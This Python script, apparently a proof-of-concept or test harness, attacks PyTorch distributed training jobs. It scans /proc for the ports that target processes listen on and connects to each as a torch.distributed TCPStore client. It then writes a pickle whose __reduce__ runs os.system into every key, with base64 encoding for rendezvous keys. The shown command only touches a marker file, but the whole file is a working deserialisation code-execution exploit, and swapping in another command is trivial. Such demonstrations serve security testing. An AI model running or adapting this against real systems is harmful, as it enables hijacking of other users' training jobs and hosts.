"""A stranger on this host (no secret, no files of the victim's): finds every TCP
port the given processes listen on (/proc/<pid>/fd against /proc/net/tcp*),
connects to each as a torch.distributed store client, lists its keys and writes a
pickle that would create MARKER into every one (base64 for torch's rendezvous
keys, as its c10d backend reads them), for SECONDS. Prints what it reached.

    python stranger.py MARKER SECONDS PID [PID ...]
"""
import base64
import os
import pickle
import sys
import time
from datetime import timedelta

import procnet  # beside this script
import torch.distributed as dist

marker, seconds, pids = sys.argv[1], float(sys.argv[2]), [int(p) for p in sys.argv[3:]]


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {marker}",))


BOMB = pickle.dumps(Payload())


def listening() -> set[tuple[str, int]]:
    return {("127.0.0.1", int(a.rsplit(":", 1)[1], 16)) for a in procnet.listening(pids)}


reached, written = set(), 0
deadline = time.monotonic() + seconds
while time.monotonic() < deadline:
    for host, port in sorted(listening()):
        try:
            store = dist.TCPStore(host, port, None, False, timedelta(seconds=2),
                                  wait_for_workers=False)
            keys = store.list_keys()
        except Exception:  # noqa: BLE001 - not a store (a worker's RPC port)
            continue
        reached.add(port)
        for key in set(keys) | {"torch.rendezvous.x"}:
            value = base64.b64encode(BOMB) if key.startswith("torch.rendezvous.") else BOMB
            try:
                store.set(key, value)
                written += 1
            except Exception:  # noqa: BLE001
                pass
        del store
    time.sleep(0.2)
print(f"STRANGER reached={sorted(reached)} written={written}", flush=True)
